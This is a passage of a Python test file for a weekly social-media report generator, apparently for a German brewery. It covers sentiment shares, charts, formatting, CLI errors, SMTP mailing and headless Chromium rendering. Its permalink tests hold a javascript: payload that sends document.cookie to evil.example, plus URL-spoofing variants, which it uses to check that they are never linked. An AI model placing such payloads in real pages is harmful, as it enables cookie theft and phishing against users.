                "INSERT INTO core.comment (network, account_id, post_id, comment_id, created_at, text, language, "
                "sentiment, sentiment_score, topics, post_published_at, sentiment_confidence, sentiment_confident) "
                "VALUES ('facebook', '104857600000001', ?, ?, ?, 'Text', 'de', ?, 0, ?, ?, ?, ?)",
                [post_id, f"c{n}", at, label, [t.strip() for t in topics.split(",")], at, 0.9 if confident else 0.4,
                 confident],
            )  # fmt: skip
    # the marts as a run that loaded nothing but the comments' weeks would rebuild them
    transform.run(con, WEEK.start - dt.timedelta(days=7), WEEK.end, run_id="test", tz=built.cfg.timezone,
                  family_windows={"day": None, "post": None, "since": (dt.date(2026, 8, 1), WEEK.end)},
                  accounts=[f"{a.network}/{a.id}" for a in built.cfg.accounts])  # fmt: skip
    con.close()
    return copy


def company_week(warehouse: Path, columns: str) -> tuple[Any, ...] | None:
    """`columns` of the company's row of WEEK in marts.account_weekly of `warehouse`."""
    con = duckdb.connect(str(warehouse), read_only=True)
    try:
        return con.execute(
            f"SELECT {columns} FROM marts.account_weekly WHERE network = 'all' AND week_start = ?", [WEEK.start]
        ).fetchone()
    finally:
        con.close()


def test_the_comment_tone_counts_confident_comments_and_says_how_many_were_uncertain(
    built: Built, tmp_path: Path
) -> None:
    """Given post a with 30 analysed comments (20 confident: 80 % positive) and post b with 10 (5 confident: 20 %),
    the shares are of the 25 confident comments (68 % positive) and the 15 uncertain ones are named; the figures
    are the marts'."""
    copy = with_comments(built, tmp_path, [
        ("a", WEEK.start + dt.timedelta(days=1), 16, 2, 2, 10, "Service"),
        ("b", WEEK.start + dt.timedelta(days=2), 1, 1, 3, 5, "Service"),
    ])  # fmt: skip
    files = build_weekly_report(built.cfg, copy, WEEK, out_dir=tmp_path, today=TODAY, pdf=False)
    text = text_of(files.html.read_text(encoding="utf-8"))
    assert f"68{NBSP}% positiv, 12{NBSP}% neutral, 20{NBSP}% negativ (Saldo +0,48; 40 analysierte Kommentare)" in text
    assert "15 davon mit unsicherem Tonfall: nicht in den Anteilen gezählt." in text
    row = company_week(copy, "tone_comments, tone_confident, tone_uncertain, positive_share, net_sentiment")
    assert row == (40, 25, 15, 0.68, 0.48)


def test_comments_of_a_week_without_the_accounts_daily_numbers_are_named_as_counted_in_the_tone_only(
    built: Built, tmp_path: Path
) -> None:
    """Facebook's 12 analysed comments of a week it has no daily numbers for: not in the company's comment count
    (the marts count accounts with numbers), in the tone (all analysed comments), and the line says so."""
    copy = with_comments(built, tmp_path, [("a", WEEK.start + dt.timedelta(days=1), 8, 2, 2, 0, "Service")],
                         no_daily="facebook")  # fmt: skip
    files = build_weekly_report(built.cfg, copy, WEEK, out_dir=tmp_path, today=TODAY, pdf=False)
    text = text_of(files.html.read_text(encoding="utf-8"))
    company = company_week(copy, "comments, comments_analysed, tone_comments, comments_accounts")
    assert company is not None and company[1:3] == (0, 12)
    assert "facebook/104857600000001" not in company[3] and "linkedin/80486001" in company[3]
    assert f"{company[0]} Kommentare, davon 0 analysiert: " in text
    assert "Facebook: ohne Tageszahlen in dieser Woche, die 12 analysierten Kommentare zählen nur im Tonfall" in text
    assert "(Saldo +0,50; 12 analysierte Kommentare)" in text


def test_the_comment_tone_is_a_ratio_of_all_comments_with_the_top_topics(built: Built, tmp_path: Path) -> None:
    """Given 30 comments at 80 % positive / 10 % negative and 10 at 20 % / 70 %, the week is 65 % positive,
    25 % negative, net +0,40 (a ratio of the 40 comments, not the mean of the posts' +0,70 and -0,50); the week
    before (net +0,30) gives +0,10; topics ranked by the comments behind them."""
    copy = with_comments(built, tmp_path, [
        ("a", WEEK.start + dt.timedelta(days=1), 24, 3, 3, 0, "Herbstfest, Service"),
        ("b", WEEK.start + dt.timedelta(days=3), 2, 1, 7, 0, "Service, Öffnungszeiten"),
        ("c", WEEK.start - dt.timedelta(days=5), 10, 6, 4, 0, "Bier"),
    ])  # fmt: skip
    files = build_weekly_report(built.cfg, copy, WEEK, out_dir=tmp_path, today=TODAY, pdf=False)
    html = files.html.read_text(encoding="utf-8")
    text = text_of(html)
    assert f"65{NBSP}% positiv, 10{NBSP}% neutral, 25{NBSP}% negativ (Saldo +0,40; 40 analysierte Kommentare)" in text
    assert "Häufigste Themen: Service, Herbstfest, Öffnungszeiten." in text
    tone = Page(html).rows["tone"]
    assert tone[1].startswith("+0,40") and tone[2].startswith("+0,10 Vorwoche: +0,30")
    assert any(f["key"] == "tone" and f["points"] == 2 for f in Page(html).figures)
    con = duckdb.connect(str(copy), read_only=True)
    headline = con.execute(
        "SELECT value, previous_value, previous_change, previous_status FROM marts.weekly_headline "
        "WHERE figure = 'tone' AND week_start = ?",
        [WEEK.start],
    ).fetchone()
    con.close()
    assert headline is not None and [round(v, 4) for v in headline[:3]] == [0.4, 0.3, 0.1] and headline[3] == "ok"


def charts_expected(built: Built) -> list[str]:
    """A chart per headline figure; the tone's only once the comment analysis (marts.comment_sentiment) exists."""
    tone = built.query(
        "SELECT count(*) FROM information_schema.tables "
        "WHERE table_schema = 'marts' AND table_name = 'comment_sentiment'"
    )[0][0]
    return ["reach", "engagement_rate", "follower_gain", "comments"] + (["tone"] if tone else [])


def test_every_chart_has_data_points_and_an_svg(built: Built, html_de: str) -> None:
    figures = Page(html_de).figures
    assert [f["key"] for f in figures] == charts_expected(built)
    for figure in figures:
        assert figure["points"] > 0 and figure["svg"] == 1 and figure["paths"] > 10, figure
    # Facebook and LinkedIn give reach for 13 weeks (LinkedIn loses nothing but days): 26 points
    assert figures[0]["points"] == 26


def test_the_report_is_self_contained(html_de: str) -> None:
    resources = re.findall(r"""(?:src|href)\s*=\s*["']([^"']+)["']|url\(([^)]+)\)|@import""", html_de)
    loaded = [
        r
        for r in resources
        if not (r[0] or r[1]).startswith(("data:", "#", "https://www.facebook.com/", "https://www.linkedin.com/"))
    ]
    assert loaded == []
    assert "<link" not in html_de and "<script" not in html_de


def test_the_report_is_written_atomically_under_the_company_slug(report_de: ReportFiles) -> None:
    assert report_de.html.parent.name == company_slug("Brauerei Sonnenhang GmbH") == "brauerei-sonnenhang-gmbh"
    assert report_de.html.name == "2026-W46.html" and report_de.pdf is None
    assert sorted(p.name for p in report_de.html.parent.iterdir()) == ["2026-W46.html"]


def test_a_killed_report_builds_temporary_files_are_removed_by_the_next_build(built: Built, tmp_path: Path) -> None:
    """Given the temporary HTML and PDF of report builds killed on this host (they hold comment texts), and
    one of a build that still runs, when the next report is built, then the killed ones are gone and the
    running one is kept."""
    folder = tmp_path / "brauerei-sonnenhang-gmbh"
    folder.mkdir()
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    live = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    killed = [f".2026-W45.html.tmp-{HOST}-{dead.pid}", f".2026-W45.pdf.tmp-{dead.pid}"]
    running = f".2026-W46.pdf.tmp-{HOST}-{live.pid}"
    try:
        for name in [*killed, running]:
            (folder / name).write_text("<p>Meine Meinung ...</p>", encoding="utf-8")
        build_weekly_report(built.cfg, built.warehouse, WEEK, out_dir=tmp_path, today=TODAY, pdf=False)
    finally:
        live.kill()
        live.wait()
    assert sorted(p.name for p in folder.iterdir()) == [running, "2026-W46.html"]


def test_english_by_setting_gives_english_headings_and_formats(built: Built, tmp_path: Path) -> None:
    cfg = built.cfg.model_copy(update={"report": ReportConfig(language="en")})
    files = build_weekly_report(cfg, built.warehouse, WEEK, out_dir=tmp_path, today=TODAY, pdf=False)
    html = files.html.read_text(encoding="utf-8")
    text = text_of(html)
    for heading in (
        "Weekly social-media report",
        "Overview",
        "Networks side by side",
        "The last 13 weeks",
        "Posts of the week by network",
        "Campaigns",
        "Data quality and missing data",
        "Technical appendix",
    ):
        assert heading in text, heading
    assert "Überblick" not in text and '<html lang="en">' in html
    reach = week_sum(built, "SELECT sum(reach) FROM marts.reach_daily WHERE day BETWEEN ? AND ?", WEEK)
    assert Page(html).rows["reach"][1] == f"{reach:,}"
    assert "Week 46/2026 · 9 Nov 2026–15 Nov 2026" in text


def test_german_number_and_date_formats() -> None:
    assert i18n.number(1234.5, "de", 1) == "1.234,5" and i18n.number(1234.5, "en", 1) == "1,234.5"
    assert i18n.change_percent(0.12, "de") == f"+12{NBSP}%" and i18n.change_percent(-0.034, "de") == f"−3,4{NBSP}%"
    assert i18n.points(0.0031, "de", 2) == f"+0,31{NBSP}Pp."
    assert i18n.number(None, "de") == "–"
    assert (
        i18n.date(dt.date(2026, 11, 9), "de") == "09.11.2026" and i18n.date(dt.date(2026, 11, 9), "en") == "9 Nov 2026"
    )


def test_weeks_due_dates_and_the_default_week() -> None:
    assert report_due(dt.date(2026, 11, 15)) and not report_due(dt.date(2026, 11, 16))
    assert default_week(dt.date(2026, 11, 16)) == WEEK  # Monday: last week is complete
    assert default_week(dt.date(2026, 11, 15)) == Week(2026, 45)  # Sunday: this week is not over
    assert default_week(dt.date(2027, 1, 4)) == Week(2026, 53)
    assert Week.parse("2026-w46") == Week.parse("2026W46") == WEEK and WEEK.label == "2026-W46"
    for bad in ("2026-46", "46", "2026-W54"):
        with pytest.raises(ReportError):
            Week.parse(bad)


def test_config_report_section_is_validated(tmp_path: Path) -> None:
    base = "company: A\naccounts:\n  - network: facebook\n    id: '1'\n"
    path = tmp_path / "c.yml"
    path.write_text(base, encoding="utf-8")
    assert load_config(path).report == ReportConfig(language="de", email_to=[], smtp_conn_id="smtp_default")
    path.write_text(base + "report:\n  language: en\n  email_to: [chef@example.de]\n", encoding="utf-8")
    assert load_config(path).report.email_to == ["chef@example.de"]
    for bad, message in (("language: fr", "report.language"), ("pdf: true", "report.pdf: unknown key")):
        path.write_text(base + f"report:\n  {bad}\n", encoding="utf-8")
        with pytest.raises(ConfigError, match=re.escape(message)):
            load_config(path)


def test_cli_errors_are_one_line_with_exit_2(
    built: Built, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("SOCIALMETRICS_CONFIG", str(built.config_path))
    monkeypatch.setenv("SOCIALMETRICS_WAREHOUSE", str(tmp_path / "none.duckdb"))
    cases = [
        (["report"], "run `make demo` first"),
        (["report", "--week", "2026-46"], "'2026-46' is not an ISO week; write it like 2026-W46"),
        (["report", "--language", "fr"], "de or en"),
    ]
    for argv, message in cases:
        assert cli(argv) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and message in err and "Traceback" not in err, err
    monkeypatch.setenv("SOCIALMETRICS_WAREHOUSE", str(built.warehouse))
    assert cli(["report", "--week", "2025-W01", "--out", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "no data for week 2025-W01" in err


def test_cli_without_chromium_writes_the_html_and_warns_once(
    built: Built,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    monkeypatch.setenv("SOCIALMETRICS_CONFIG", str(built.config_path))
    monkeypatch.setenv("SOCIALMETRICS_WAREHOUSE", str(built.warehouse))
    monkeypatch.delenv("SOCIALMETRICS_CHROMIUM", raising=False)
    monkeypatch.setenv("PATH", str(tmp_path / "empty-bin"))
    assert cli(["report", "--week", "2026-W46", "--out", str(tmp_path), "--language", "en"]) == 0
    out = capsys.readouterr().out.splitlines()
    # English beside the German report of the week, never over it
    assert out[0] == str(tmp_path / "brauerei-sonnenhang-gmbh" / "2026-W46.en.html") and "no PDF" in out[1]
    warnings = [r for r in caplog.records if r.levelname == "WARNING" and "PDF" in r.getMessage()]
    assert len(warnings) == 1 and warnings[0].exc_info is None
    assert "apt-get install -y chromium" in warnings[0].getMessage() and "\n" not in warnings[0].getMessage()
    assert not (tmp_path / "brauerei-sonnenhang-gmbh" / "2026-W46.en.pdf").exists()


class FakeSmtp(socketserver.ThreadingTCPServer):
    """A minimal SMTP server on loopback: EHLO, AUTH PLAIN, MAIL, RCPT, DATA, QUIT; keeps what it got."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), FakeSmtpHandler)
        self.messages: list[bytes] = []
        self.envelopes: list[tuple[str, list[str]]] = []
        self.logins: list[tuple[str, str]] = []


class FakeSmtpHandler(socketserver.StreamRequestHandler):
    def reply(self, line: str) -> None:
        self.wfile.write(line.encode() + b"\r\n")

    def handle(self) -> None:
        server: FakeSmtp = self.server  # type: ignore[assignment]
        sender, recipients = "", []
        self.reply("220 fake.smtp ESMTP")
        while line := self.rfile.readline():
            command = line.decode().strip()
            verb = command.split(" ", 1)[0].upper()
            if verb == "EHLO":
                self.wfile.write(b"250-fake.smtp\r\n250-AUTH PLAIN\r\n250 8BITMIME\r\n")
            elif verb == "AUTH":
                _, login, password = base64.b64decode(command.split()[2]).decode().split("\0")
                server.logins.append((login, password))
                self.reply("235 2.7.0 Authentication successful")
            elif verb == "MAIL":
                sender = command.split(":", 1)[1].strip().split()[0].strip("<>")
                self.reply("250 OK")
            elif verb == "RCPT":
                recipients.append(command.split(":", 1)[1].strip().strip("<>"))
                self.reply("250 OK")
            elif verb == "DATA":
                self.reply("354 End data with <CR><LF>.<CR><LF>")
                data = []
                while (chunk := self.rfile.readline()) not in (b".\r\n", b".\n", b""):
                    data.append(chunk[1:] if chunk.startswith(b"..") else chunk)
                server.messages.append(b"".join(data))
                server.envelopes.append((sender, recipients))
                self.reply("250 OK queued")
            elif verb == "QUIT":
                self.reply("221 Bye")
                return
            else:
                self.reply("250 OK")


def test_the_report_is_sent_as_html_with_the_pdf_attached_through_the_smtp_connection(
    built: Built, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    files = build_weekly_report(built.cfg, built.warehouse, WEEK, out_dir=tmp_path, today=TODAY, pdf=False)
    pdf = files.html.with_suffix(".pdf")
    pdf.write_bytes(b"%PDF-1.4\n% a stand-in: this test is about the mail, not Chromium\n%%EOF\n")
    server = FakeSmtp()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    password = "smtp-Secret-4711-do-not-log"
    monkeypatch.setenv(
        "AIRFLOW_CONN_SMTP_REPORT",
        json.dumps(
            {
                "conn_type": "smtp",
                "host": "127.0.0.1",
                "port": server.server_address[1],
                "login": "bericht",
                "password": password,
                "extra": {"from_email": "bericht@sonnenhang.example", "disable_ssl": True, "disable_tls": True},
            }
        ),
    )
    cfg = built.cfg.model_copy(
        update={
            "report": ReportConfig(
                email_to=["chefin@sonnenhang.example", "marketing@sonnenhang.example"], smtp_conn_id="smtp_report"
            )
        }
    )
    try:
        sent = send_report(files.html, cfg)  # a path, as the next DAG task gets it from XCom
    finally:
        server.shutdown()
        server.server_close()
    assert sent == ["chefin@sonnenhang.example", "marketing@sonnenhang.example"]
    assert server.logins == [("bericht", password)]
    assert server.envelopes == [("bericht@sonnenhang.example", sent)]
    msg = email.message_from_bytes(server.messages[0], policy=email.policy.default)
    assert msg["Subject"] == "Wochenbericht Social Media · Brauerei Sonnenhang GmbH · KW 46/2026"
    html_part = msg.get_body(preferencelist=("html",))
    assert html_part is not None
    assert html_part.get_content().replace("\r\n", "\n").rstrip() == files.html.read_text(encoding="utf-8").rstrip()
    attachments = list(msg.iter_attachments())
    assert [(a.get_filename(), a.get_content_type()) for a in attachments] == [
        ("brauerei-sonnenhang-gmbh-2026-W46.pdf", "application/pdf")
    ]
    assert attachments[0].get_content() == pdf.read_bytes()
    assert password not in caplog.text


def test_no_recipients_means_no_mail(built: Built, report_de: ReportFiles) -> None:
    assert send_report(report_de, built.cfg) == []


# --- headless Chromium ------------------------------------------------------------------------------


def page_requests(netlog: Path) -> list[str]:
    """URLs the page itself requested (Chromium's own background requests have no file:// isolation key)."""
    log = json.loads(netlog.read_text(encoding="utf-8"))
    start_job = log["constants"]["logEventTypes"]["URL_REQUEST_START_JOB"]
    return [
        e["params"]["url"]
        for e in log["events"]
        if e.get("type") == start_job
        and str(e.get("params", {}).get("network_isolation_key", "")).startswith("file://")
    ]


@dataclass
class Rendered:
    """What one headless Chromium load of a page gave."""

    console: list[str]
    requests: list[str]
    screenshot: Path
    dom: str


def render(html: Path, out: Path, name: str) -> Rendered:
    """Load `html` once in headless Chromium: console lines, page requests, a first-screen PNG and the DOM."""
    from socialmetrics.serve.report.pdf import run_chromium

    netlog, png = out / f"{name}.netlog.json", out / f"{name}.png"
    proc = run_chromium(
        [
            "--enable-logging=stderr",
            "--v=0",
            f"--log-net-log={netlog}",
            "--hide-scrollbars",
            "--dump-dom",
            f"--screenshot={png}",
            "--window-size=1240,1754",
            html.resolve().as_uri(),
        ]
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    console = [line for line in proc.stderr.splitlines() if ":CONSOLE" in line]
    return Rendered(console, page_requests(netlog), png, proc.stdout)


@pytest.mark.browser
def test_headless_chromium_prints_each_section_on_its_own_pages_without_errors_or_requests(
    built: Built, tmp_path: Path
) -> None:
    """Given the report of week 46, Chromium prints an A4 PDF, each of its 5 sections starting a page, whose
    first page names the company and
    the week; loading the page logs nothing to the console and requests nothing; the first screen is a
    non-blank image. A control page with a console message and an external image proves both checks see."""
    from PIL import Image
    from pypdf import PdfReader

    from socialmetrics.serve.report.pdf import find_chromium

    if find_chromium() is None:
        if os.environ.get("CI"):
            pytest.fail("CI must have Chromium: apt-get install -y chromium fonts-dejavu-core")
        pytest.skip("no Chromium here (CI installs it)")
    files = build_weekly_report(built.cfg, built.warehouse, WEEK, out_dir=tmp_path / "out", today=TODAY)
    assert files.pdf is not None and files.pdf.exists()
    reader = PdfReader(files.pdf)
    texts = [page.extract_text() for page in reader.pages]
    starts = [next(i for i, t in enumerate(texts) if re.search(rf"(^|\n){n} · ", t)) for n in range(1, 6)]  # headings
    assert starts == sorted(starts) and len(set(starts)) == 5 and starts[0] == 0, starts
    width, height = (float(v) for v in reader.pages[0].mediabox.upper_right)
    assert (round(width), round(height)) == (595, 842)  # A4 in points
    first = reader.pages[0].extract_text()
    assert "Brauerei Sonnenhang GmbH" in first and "2026-W46" in first and "1 · Überblick" in first
    assert "2 · Verlauf" in texts[starts[1]] and "4 · Datenqualität" in texts[starts[3]]
    assert "5 · Technischer Anhang" in texts[starts[4]]

    page = render(files.html, tmp_path, "report")
    assert page.console == [] and page.requests == []
    with Image.open(page.screenshot) as image:
        assert image.size == (1240, 1754)
        grey = image.convert("L")
        dark = sum(grey.histogram()[:128])
        assert grey.getextrema()[0] < 50 and 0.01 < dark / (1240 * 1754) < 0.5  # text and lines on white
    figures = Page(page.dom).figures
    assert [f["key"] for f in figures] == charts_expected(built)
    assert all(f["points"] > 0 and f["svg"] == 1 and f["paths"] > 10 for f in figures)

    control = tmp_path / "control.html"
    control.write_text('<!doctype html><img src="https://example.com/x.png"><script>console.error("boom")</script>')
    control_page = render(control, tmp_path, "control")
    assert any('"boom"' in line for line in control_page.console)
    assert control_page.requests == ["https://example.com/x.png"]


def test_a_report_in_another_language_than_the_configured_one_gets_its_own_file(built: Built, tmp_path: Path) -> None:
    """`report --language en` beside the German report of the same week leaves the German one as it was."""
    german = build_weekly_report(built.cfg, built.warehouse, WEEK, out_dir=tmp_path, today=TODAY, pdf=False)
    before = german.html.read_bytes()
    english = build_weekly_report(
        built.cfg, built.warehouse, WEEK, out_dir=tmp_path, today=TODAY, pdf=False, language="en"
    )
    assert (german.html.name, english.html.name) == ("2026-W46.html", "2026-W46.en.html")
    assert german.html.read_bytes() == before and '<html lang="en">' in english.html.read_text(encoding="utf-8")


LONG_WORD = "Sonnenhang" * 30  # 300 characters without a space


def with_xing_posts(built: Built, tmp_path: Path, posts: list[tuple[str, str | None, str | None, int]]) -> Path:
    """A copy of the warehouse with extra Xing posts of WEEK (post id, permalink, text, engagements) in
    marts.post_performance, the way the Xing import stores a `Beitrag` (a URL as permalink, else text)."""
    copy = tmp_path / "warehouse.duckdb"
    shutil.copy(built.warehouse, copy)
    con = duckdb.connect(str(copy))
    for post_id, permalink, text, engagements in posts:
        con.execute(
            "INSERT INTO marts.post_performance BY NAME SELECT 'xing' AS network, 'brauerei-sonnenhang' AS account_id, "
            "? AS post_id, TIMESTAMPTZ '2026-11-10 08:00:00+00' AS published_at, ? AS permalink, ? AS text, "
            "12345678 AS impressions, ? AS engagements, 0.05 AS engagement_rate, DATE '2026-11-12' AS as_of",
            [post_id, permalink, text, engagements],
        )
    con.close()
    return copy


def anchors(html: str) -> dict[str, str]:
    """Post id -> the href of the link in its text cell (posts without a link are left out)."""
    found = {}
    for match in re.finditer(r'<tr data-post-id="([^"]+)">(.*?)</tr>', html, re.S):
        href = re.search(r'<td class="post-text"><a href="([^"]*)"', match.group(2))
        if href:
            found[match.group(1)] = unescape(href.group(1))
    return found


def test_only_the_networks_own_https_permalinks_become_links(built: Built, tmp_path: Path) -> None:
    """Given Xing posts whose `Beitrag` was a javascript: URL, an http and an https URL to another site and a real
    Xing URL, when the report is rendered, then only the Xing URL is a link; the others are plain text."""
    real = "https://www.xing.com/pages/brauerei-sonnenhang/posts/herbstfest-1234567"
    copy = with_xing_posts(
        built,
        tmp_path,
        [
            ("xing-js", None, "javascript:fetch('https://evil.example/?c='+document.cookie)", 9001),
            ("xing-evil", "http://evil.example/", None, 9002),
            ("xing-phish", "https://evil.example/xing-login", None, 9004),
            ("xing-real", real, None, 9003),
        ],
    )
    files = build_weekly_report(built.cfg, copy, WEEK, out_dir=tmp_path / "out", today=TODAY, pdf=False)
    html = files.html.read_text(encoding="utf-8")
    assert {k: v for k, v in anchors(html).items() if k.startswith("xing-")} == {"xing-real": real}
    rows = Page(html).post_rows
    assert rows["xing-evil"][3] == "http://evil.example/"  # shown, not linked
    assert rows["xing-phish"][3] == "https://evil.example/xing-login"
    assert rows["xing-js"][3].startswith("javascript:fetch(")
    assert "evil.example" not in "".join(re.findall(r'href="([^"]*)"', html))


@pytest.mark.parametrize(
    ("network", "url", "linked"),
    [
        ("xing", "https://www.xing.com/pages/brauerei-sonnenhang/posts/1234567", True),
        ("xing", "https://xing.com/news/1234567", True),
        ("xing", "http://www.xing.com/news/1234567", False),  # not https
        ("xing", "javascript:alert(1)", False),
        ("xing", "JaVaScRiPt://www.xing.com/%0aalert(1)", False),
        ("xing", "http://evil.example/", False),
        ("xing", "https://evil.example/www.xing.com", False),
        ("xing", "https://www.xing.com.evil.example/", False),
        ("xing", "https://evilxing.com/", False),
        ("xing", "https://www.xing.com@evil.example/", False),  # user info: the host is evil.example
        ("xing", "https://evil.example\\.xing.com/", False),  # a browser reads the backslash as a slash
        ("xing", "https://www.xing.com:8443/", False),
        ("xing", "https://www.facebook.com/104857600000001/posts/1", False),  # another network's host
        ("facebook", "https://www.facebook.com/104857600000001/posts/1", True),
        ("instagram", "https://www.instagram.com/p/C0ffee/", True),
        ("linkedin", "https://www.linkedin.com/feed/update/urn:li:share:7000000000000000001", True),
        ("x", "https://x.com/sonnenhang/status/1790000000000000001", True),
        ("x", "https://twitter.com/sonnenhang/status/1790000000000000001", True),
        ("unknown-network", "https://www.xing.com/news/1234567", False),
    ],
)
def test_a_permalink_is_a_link_only_over_https_to_the_networks_own_host(network: str, url: str, linked: bool) -> None:
    from socialmetrics.serve.report.links import safe_permalink

    assert safe_permalink(network, url) == (url if linked else None)


def test_a_long_unbreakable_word_wraps_inside_its_cell(built: Built, tmp_path: Path) -> None:
    """Given a post whose text is one 300-character word, the report shortens it and its cell may break it
    anywhere (the fixed table layout keeps the column's width), so it cannot run over the figures."""
    copy = with_xing_posts(built, tmp_path, [("xing-long", None, f"{LONG_WORD} Prost!", 9001)])
    files = build_weekly_report(built.cfg, copy, WEEK, out_dir=tmp_path / "out", today=TODAY, pdf=False)
    html = files.html.read_text(encoding="utf-8")
    assert re.search(r"table\.posts td:not\(\.num\) \{[^}]*overflow-wrap: anywhere", html)
    assert re.search(r"table\.posts \{[^}]*table-layout: fixed", html)
    assert Page(html).post_rows["xing-long"][3] == LONG_WORD[: TEXT_EXCERPT - 1] + "…"


def test_a_long_post_text_is_shortened_at_a_word_boundary() -> None:
    words = "Unser Herbstfest war ein voller Erfolg: danke an alle Gäste, die Musiker und das ganze Team der Brauerei!"
    assert (
        _excerpt(words, "de")
        == "Unser Herbstfest war ein voller Erfolg: danke an alle Gäste, die Musiker und das ganze…"
    )
    assert _excerpt(LONG_WORD, "de") == LONG_WORD[: TEXT_EXCERPT - 1] + "…"


@pytest.mark.browser
def test_a_long_unbreakable_word_does_not_overprint_the_figures_in_chromium(
    built: Built, tmp_path: Path, chromium: str
) -> None:
    """Given the report with a post whose text is a 300-character word, when Chromium lays it out (A4 width, as
    printed), then the text cell's content ends left of the first figure cell and stays as wide as its column."""
    copy = with_xing_posts(built, tmp_path, [("xing-long", None, f"{LONG_WORD} Prost!", 9001)])
    files = build_weekly_report(built.cfg, copy, WEEK, out_dir=tmp_path / "out", today=TODAY, pdf=False)
    probe = tmp_path / "probe.html"
    script = """<script>
    const row = document.querySelector('tr[data-post-id="xing-long"]');
    const text = row.querySelector('td.post-text'), figure = text.nextElementSibling;
    const range = document.createRange(); range.selectNodeContents(text);
    const content = range.getBoundingClientRect(), cell = text.getBoundingClientRect();
    const out = document.createElement('pre'); out.id = 'probe';
    out.textContent = JSON.stringify({content_right: content.right, cell_right: cell.right,
      figure_left: figure.getBoundingClientRect().left, scroll: text.scrollWidth, client: text.clientWidth});
    document.body.appendChild(out);
    </script></body>"""
    probe.write_text(files.html.read_text(encoding="utf-8").replace("</body>", script), encoding="utf-8")
    page = render(probe, tmp_path, "probe")
    found = re.search(r'<pre id="probe">(.*?)</pre>', page.dom)
    assert found, page.dom[-500:]
    box = json.loads(unescape(found.group(1)))
    assert box["content_right"] <= box["figure_left"] and box["content_right"] <= box["cell_right"] + 0.5, box
    assert box["scroll"] <= box["client"], box


def in_brief(html: str) -> list[str]:
    """The sentences that open the report."""
    block = re.findall(r'<ul class="in-brief">(.*?)</ul>', html, re.S)
    return [squeeze(unescape(re.sub(r"<[^>]+>", "", li))) for li in re.findall(r"<li>(.*?)</li>", block[0], re.S)]


def expected_in_brief(built: Built, week: Week, lang: str) -> list[str]:
    """The opening sentences as the marts give them: each number is a value of a mart query here."""
    from socialmetrics.serve.report import highlights

    def fig(figure: str, value: Any) -> str:
        if figure == "engagement_rate":
            return i18n.percent(value, lang, 2)
        return i18n.signed(value, lang) if figure == "follower_gain" else i18n.number(value, lang)

    out = []
    changes = built.query(
        "SELECT network, figure, value, low, high, baseline_weeks, verdict FROM marts.week_highlights "
        "WHERE week_start = ? AND verdict IN ('rose', 'fell') ORDER BY abs(z) DESC, network, figure LIMIT 2",
        [week.start],
    )
    for network, figure, value, low, high, weeks, verdict in changes:
        out.append(
            i18n.text(
                "hl_" + verdict,
                lang,
                network=i18n.network_name(network),
                figure=i18n.text(figure, lang),
                value=fig(figure, value),
                low=fig(figure, low),
                high=fig(figure, high),
                weeks=weeks,
            )
        )
    if not changes:
        n = built.query("SELECT count(*) FROM marts.week_highlights WHERE week_start = ? AND verdict IN "
                        "('rose', 'fell', 'normal')", [week.start])[0][0]  # fmt: skip
        out.append(i18n.text("hl_steady", lang, n=n))
    goals = built.query(
        "SELECT coalesce(name, figure), figure, value, target, projected, period_end, as_of, status, network, period "
        "FROM marts.goal_progress WHERE current ORDER BY goal_index"
    )
    items = []
    for g, f, v, t, p, end, _as_of, st, network, period in goals:
        status = i18n.text(highlights.STATUS_KEYS[st], lang)
        if f == "engagement_rate":  # unnamed in the fixture's config: the report names it in words
            name = i18n.text("hl_goal_unnamed", lang, figure=i18n.text(f, lang), scope=i18n.text("hl_company", lang),
                             period=period)  # fmt: skip
            assert network == "all" and period == "2026-11"
            items.append(i18n.text("hl_goal_rate", lang, goal=name, status=status, value=fig(f, v), target=fig(f, t)))
        else:
            items.append(i18n.text("hl_goal", lang, goal=g, status=status, value=fig(f, v), target=fig(f, t),
                                   projected=fig(f, p), end=i18n.date(end, lang)))  # fmt: skip
    out.append(i18n.text("hl_goals", lang, goals="; ".join(items), as_of=i18n.date(max(g[6] for g in goals), lang)))
    posts = built.query(
        "WITH week AS (SELECT *, CAST(timezone('Europe/Berlin', published_at) AS DATE) AS local_day "
        "FROM marts.post_performance WHERE CAST(timezone('Europe/Berlin', published_at) AS DATE) BETWEEN ? AND ? "
        "AND engagements IS NOT NULL), "
        "top AS (SELECT network FROM week GROUP BY network ORDER BY count(*) DESC, network LIMIT 1) "
        "SELECT network, local_day, text, engagements, engagement_rate, count(*) OVER () FROM week JOIN top "
        "USING (network) ORDER BY engagements DESC, post_id",
        [week.start, week.end],
    )
    (net, day, text, eng, rate, n), (_, w_day, w_text, w_eng, w_rate, _) = posts[0], posts[-1]
    out.append(i18n.text("hl_posts", lang, n=n, network=i18n.network_name(net), date=i18n.date(day, lang),
                         text=highlights._excerpt(text, lang), eng=i18n.number(eng, lang),
                         rate=i18n.percent(rate, lang, 1),
                         w_date=i18n.date(w_day, lang), w_text=highlights._excerpt(w_text, lang),
                         w_eng=i18n.number(w_eng, lang), w_rate=i18n.percent(w_rate, lang, 1)))  # fmt: skip
    network, total = built.query(
        "SELECT network, sum(posts) FROM marts.best_posting_time WHERE dimension = 'weekday' GROUP BY network "
        "ORDER BY 2 DESC, 1 LIMIT 1"
    )[0]
    slots = built.query(
        "SELECT dimension, slot, posts, rate_index FROM marts.best_posting_time WHERE network = ? AND is_best "
        "AND rate_index >= 110 AND posts >= 10 ORDER BY dimension DESC",
        [network],
    )
    assert slots, "the sandbox's posting times give a suggestion"
    days = {"de": ["Montag", "Dienstag", "Mittwoch", "Donnerstag", "Freitag", "Samstag", "Sonntag"],
            "en": ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"]}[lang]  # fmt: skip
    parts = [
